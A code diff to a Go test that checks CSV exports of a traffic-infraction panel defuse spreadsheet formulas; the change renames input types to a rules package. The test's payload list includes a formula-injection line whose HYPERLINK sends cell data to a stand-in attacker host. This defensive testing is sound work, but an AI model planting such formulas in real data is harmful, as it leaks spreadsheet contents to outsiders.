@@ -17,6 +17,7 @@ import (
 	"golang.org/x/crypto/bcrypt"
 
 	"transito/models"
+	"transito/models/rules"
 )
 
 // secFixture is a logged-in panel with one record of each kind, so that
@@ -398,19 +399,19 @@ func TestCSVExportsDefuseFormulas(t *testing.T) {
 	ctx := context.Background()
 	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+1+1", "-2+3", "@SUM(1,2)"}
 	for i, f := range formulas {
-		p, err := e.store.CreatePerson(ctx, models.PersonInput{Name: f, Email: "f" + itoa64(int64(i)) + "@example.com"}, testActor)
+		p, err := e.store.CreatePerson(ctx, rules.PersonInput{Name: f, Email: "f" + itoa64(int64(i)) + "@example.com"}, testActor)
 		if err != nil {
 			t.Fatal(err)
 		}
 		plate := "CSV" + itoa64(int64(i))
-		if _, err := e.store.CreateVehicle(ctx, models.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testActor); err != nil {
+		if _, err := e.store.CreateVehicle(ctx, rules.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testActor); err != nil {
 			t.Fatal(err)
 		}
 		badge := "F" + itoa64(int64(i))
-		if _, err := e.store.CreateOfficer(ctx, models.OfficerInput{Name: f, Badge: badge, Active: true}, testActor); err != nil {
+		if _, err := e.store.CreateOfficer(ctx, rules.OfficerInput{Name: f, Badge: badge, Active: true}, testActor); err != nil {
 			t.Fatal(err)
 		}
-		if _, err := e.store.CreateInfraction(ctx, models.InfractionInput{Plate: plate, Badge: badge, OccurredAt: time.Now().Add(-time.Hour), Comments: f}, testActor); err != nil {
+		if _, err := e.store.CreateInfraction(ctx, rules.InfractionInput{Plate: plate, Badge: badge, OccurredAt: time.Now().Add(-time.Hour), Comments: f}, testActor); err != nil {
 			t.Fatal(err)
 		}
 	}
